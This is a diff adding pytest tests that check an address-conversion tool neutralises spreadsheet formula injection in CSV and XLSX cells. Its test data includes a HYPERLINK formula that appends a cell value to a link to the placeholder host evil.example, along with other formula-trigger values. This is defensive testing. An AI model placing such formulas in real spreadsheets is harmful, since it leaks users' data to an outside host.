@@ -119,3 +119,65 @@ def test_cli_converts_a_file_and_reports_a_bad_one(tmp_path, data_root, cache_ro
     src.write_text('address\n"open\n', encoding="utf-8")
     assert main(["convert", str(src), str(dst), *dirs]) == 2
     assert "dòng 2" in capsys.readouterr().err
+
+
+# Issue #24: formula injection. Cells a spreadsheet would run go back neutralised.
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1", "@SUM(A1:A9)", "\tX"]
+
+
+def test_csv_cells_that_would_start_a_formula_come_back_neutralised(finder):
+    buf = io.StringIO(newline="")
+    writer = csv.writer(buf)
+    writer.writerow(["address", "ref", "amount"])
+    for cell in HOSTILE_CELLS:
+        writer.writerow(["P. Dien Bien, Q. Ba Dinh", cell, "-5"])
+    writer.writerow([HOSTILE_CELLS[0], "-x", "-1.5"])
+    out, _ = convert_bytes(finder, buf.getvalue().encode())
+    rows = _rows(out)
+    assert [r["ref"] for r in rows] == ["'" + c for c in HOSTILE_CELLS] + ["'-x"]
+    assert rows[-1]["address"] == "'" + HOSTILE_CELLS[0]
+    # Negative numbers are numbers, not formulas: they stay as they were.
+    assert [r["amount"] for r in rows] == ["-5"] * len(HOSTILE_CELLS) + ["-1.5"]
+
+
+def test_an_xlsx_of_text_cells_comes_back_with_no_formula_cell(finder):
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["address", "ref"])
+    for cell in HOSTILE_CELLS * 3:
+        sheet.append(["P. Dien Bien, Q. Ba Dinh", cell])
+    for row in sheet.iter_rows():
+        for c in row:
+            c.data_type = "s"  # text cells, as a spreadsheet saves typed text
+    buf = io.BytesIO()
+    book.save(buf)
+    out, table = convert_bytes(finder, buf.getvalue())
+    assert table.excel
+    back = openpyxl.load_workbook(io.BytesIO(out)).active
+    cells = [c for row in back.iter_rows() for c in row]
+    assert sum(c.data_type == "f" for c in cells) == 0
+    assert back.cell(2, 2).value == HOSTILE_CELLS[0]  # kept as the text it was
+
+
+def test_neutralise_leaves_numbers_and_plain_text_alone():
+    from geodata.convert import neutralise
+
+    assert [neutralise(v) for v in ["-12", "-0.5", "-1e3", "12", "Hà Nội", "", 3, None]] == [
+        "-12",
+        "-0.5",
+        "-1e3",
+        "12",
+        "Hà Nội",
+        "",
+        3,
+        None,
+    ]
+    assert [neutralise(v) for v in ["-", "-1-2", "=1", "\r=1", "@x"]] == [
+        "'-",
+        "'-1-2",
+        "'=1",
+        "'\r=1",
+        "'@x",
+    ]
